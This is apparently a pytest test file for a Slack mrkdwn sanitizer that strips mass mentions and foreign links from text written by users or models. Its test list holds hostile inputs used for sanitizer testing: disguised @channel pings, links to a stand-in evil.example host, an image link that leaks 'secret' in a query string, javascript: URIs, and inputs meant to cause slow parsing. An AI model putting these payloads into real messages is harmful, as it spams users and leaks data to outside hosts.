"""What documents, models and users write cannot notify anybody or lead anywhere in Slack."""

import re
import time
import unicodedata

import pytest

from listeners.mrkdwn import clean, escape, harmless, is_own, to_mrkdwn, to_plain

OWN = "https://guide.example.com/ai"

NASTY = [
    "<!channel> look",
    "<!here>",
    "<!everyone|everyone>",
    "<!subteam^S012|@admins>",
    "<@U012345>",
    "<@W012345|boss>",
    "<#C012345|secret>",
    "<!date^1392734382^{date}|x>",
    "@channel wake up",
    "hey @here!",
    "@everyone",
    "@Channel, @HERE",
    "＜!channel＞",
    "＠channel",
    "@\u200bchannel",
    "@chan\u00adnel",
    "<\u200b!channel>",
    "<!chan\u2060nel>",
    "\u202e<!channel>\u202c",
    "&lt;!channel&gt;",
    "&amp;lt;!channel&amp;gt;",
    "&#60;!channel&#62;",
    "[click](https://evil.example)",
    "[click](<https://evil.example>)",
    '[click](https://evil.example "title")',
    "[click]( https://evil.example )",
    "[https://guide.example.com/ai](https://evil.example)",
    "![pixel](https://evil.example/p.png?q=secret)",
    "[![alt](https://evil.example/i.png)](https://evil.example)",
    "[a [b] c](https://evil.example)",
    "[click](https://evil.example/(x)(y))",
    "[click](javascript:alert(1))",
    "[click](//evil.example)",
    "[click][ref]\n\n[ref]: https://evil.example",
    "[ref]: <https://evil.example>",
    "<https://evil.example|click>",
    "<https://evil.example>",
    "https://evil.example/?q=secret",
    "HTTPS://EVIL.EXAMPLE/x",
    "http://http://evil.example",
    "hxxp://evil.example ftp://evil.example/file",
    "www.evil.example",
    "see evil.example/path?x=1",
    "mailto:a@evil.example",
    "tel:+123456789",
    "slack://channel?team=T1&id=C1",
    "data:text/html,x",
    "javascript:alert(1)",
    "https://guide.example.com.evil.example/ai",
    "https://guide.example.com@evil.example/ai",
    "https://guide.example.com/ai/../../evil",
    "[x](https://guide.example.com/ai|evil)",
    "[x](https://guide.example.com/ai><!channel>)",
    "[x](https://guide.example.com.evil.example)",
    "[x](https://guide.example.com/aim)",
    "[x]\u200b(https://evil.example)",
    "[x](https://evil.\u200bexample)",
    "\U000e0041\U000e0042 tag characters",
    "\u2066isolate\u2069 \ufeffmark",
    "\x1b[31mred\x1b[0m \x07 \x00",
    "```\n<!channel> https://evil.example\n```",
    "`<!channel> https://evil.example`",
    "```unclosed <!here> [x](https://evil.example)",
    "| a | <!channel> |\n|---|---|\n| [x](https://evil.example) | @here |",
    "> <!channel>",
    "**<!channel>** *@here*",
    "\\[click](https://evil.example)",
    "[click]\\(https://evil.example)",
    "//evil.example/x",
]


@pytest.mark.parametrize("text", NASTY)
@pytest.mark.parametrize("render", [harmless, to_mrkdwn, to_plain, escape])
def test_nothing_nasty_survives(text, render):
    shown = render(text) if render in (to_plain, escape) else render(text, own_url=OWN)
    own_links = re.sub(rf"<{re.escape(OWN)}[^<>|]*\|[^<>]*>", "", shown)
    assert "<" not in own_links
    assert not re.search(
        r"@(channel|here|everyone)", unicodedata.normalize("NFKC", shown), re.IGNORECASE
    )
    assert not any(
        unicodedata.category(each) in ("Cc", "Co", "Cs") for each in shown if each != "\n"
    )
    invisible = {each for each in shown if unicodedata.category(each) == "Cf"}
    assert invisible <= {"\u2060"}
    if render is not escape:
        addresses = re.findall(r"[a-z]+://[^\s|>)]+", shown, re.IGNORECASE)
        assert all(is_own(address, own_url=OWN) for address in addresses)
        assert not re.search(r"\]\((?!https://guide\.example\.com/ai[/)#?])", shown)
        assert not re.search(r"(mailto|tel|javascript|slack|data):\S", shown)


@pytest.mark.parametrize("text", NASTY)
def test_what_people_read_stays_in_place(text):
    """Letters are neither lost nor moved, apart from targets of links and schemes."""
    words = re.findall(r"\b(?:look|click|secret|alt|wake|title)\b", clean(text))
    shown = harmless(text, own_url=OWN)
    targets = re.findall(r"\b(?:secret|title)\b", clean(text))
    assert all(word in shown or word in targets for word in words)


def test_signs_are_escaped_once():
    assert harmless("a < b & c > d") == "a &lt; b &amp; c &gt; d"


def test_a_quote_keeps_its_mark():
    assert harmless("> Caveat: a > b") == "> Caveat: a &gt; b"


def test_a_foreign_link_keeps_its_text():
    assert harmless("see [the docs](https://evil.example) now") == "see the docs now"


def test_a_bare_foreign_address_becomes_code_without_its_scheme():
    assert harmless("see https://evil.example/a?b.") == "see `evil.example/a?b`."


def test_an_address_in_code_gets_no_more_backticks():
    assert harmless("run `curl https://evil.example`") == "run `curl evil.example`"


def test_links_to_the_guide_stay():
    assert harmless(f"[here]({OWN}/page#x) and {OWN}/page", own_url=OWN) == (
        f"[here]({OWN}/page#x) and {OWN}/page"
    )


def test_links_to_the_guide_become_mrkdwn_links():
    assert to_mrkdwn(f"[here]({OWN}/page#x)", own_url=OWN) == f"<{OWN}/page#x|here>"


def test_markdown_becomes_mrkdwn():
    assert to_mrkdwn("# Title\n\n- **bold** word\n- two") == "*Title*\n\n• *bold* word\n• two"


def test_plain_text_has_no_markdown():
    assert to_plain("**Recall** comes first. [1]\n\n`code`") == "Recall comes first. [1]\n\ncode"


def test_citation_markers_stay():
    text = "Recall comes first. [1] Precision follows. [2][3]"
    assert harmless(text) == text


def test_code_and_tables_stay():
    text = "```\nx = [1, 2]\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    assert harmless(text) == text


@pytest.mark.parametrize(
    "text",
    ["[" * 6000, "[a](" * 3000, "a." * 6000, "**" * 6000, "**a " * 3000, "`" * 12000, "](" * 6000, "@" * 12000,
     "http://" * 2000, "> " * 6000, "![" * 6000],
)  # fmt: skip
def test_hostile_text_takes_no_time(text):
    started = time.thread_time()
    harmless(text, own_url=OWN)
    to_mrkdwn(text, own_url=OWN)
    assert time.thread_time() - started < 2


@pytest.mark.parametrize(
    ("target", "own"),
    [
        (OWN, True),
        (OWN + "/page#x", True),
        (OWN + "?q=1", True),
        (OWN + "m", False),
        (OWN + "/../secret", False),
        ("https://guide.example.com.evil.example/ai", False),
        ("http://guide.example.com/ai", False),
        (OWN + "/x|label", False),
        ("", False),
    ],
)
def test_only_addresses_at_or_below_the_guide_are_own(target, own):
    assert is_own(target, own_url=OWN) is own


def test_without_an_address_of_the_guide_nothing_is_own():
    assert not is_own("https://guide.example.com", own_url="")
